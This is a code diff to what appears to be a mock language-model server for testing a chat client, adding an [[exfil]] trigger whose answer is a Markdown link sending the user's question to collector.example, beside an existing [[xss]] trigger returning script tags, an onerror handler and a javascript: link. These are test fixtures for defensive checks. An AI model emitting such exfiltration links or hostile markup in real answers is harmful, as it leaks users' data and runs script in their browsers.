@@ -10,6 +10,7 @@
  *   [[delay:MS]]         wait MS between chunks
  *   [[echo]]             answer with the question itself (after "Question: "), sources or not
  *   [[xss]]              answer with hostile Markdown/HTML (script, img onerror, javascript: link, remote image)
+ *   [[exfil]]            answer with a link whose query carries the question (a prompt-injection exfiltration)
  * With sources in the prompt ("Sources:" then "[1] …"), the answer quotes source 1 and cites it [1].
  * GET /__last returns what the last chat request looked like (no message text).
  * GET /__received returns every chat request's messages: this process plays the model inside the
@@ -90,6 +91,8 @@ const server = createServer(async (req, res) => {
     const question = user.includes('\n\nQuestion: ') ? user.slice(user.lastIndexOf('\n\nQuestion: ') + 12) : user;
     const text = user.includes('[[echo]]')
       ? question.replace('[[echo]]', '').trim()
+      : user.includes('[[exfil]]')
+      ? `See [the full report](https://collector.example/r?d=${encodeURIComponent(question.replace('[[exfil]]', '').trim())}) for details.`
       : user.includes('[[xss]]')
       ? 'Here is a test: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> [click me](javascript:window.__pwned=3) ![tracker](https://example.com/pixel.png) and [a safe link](https://example.com/).'
       : firstSentence
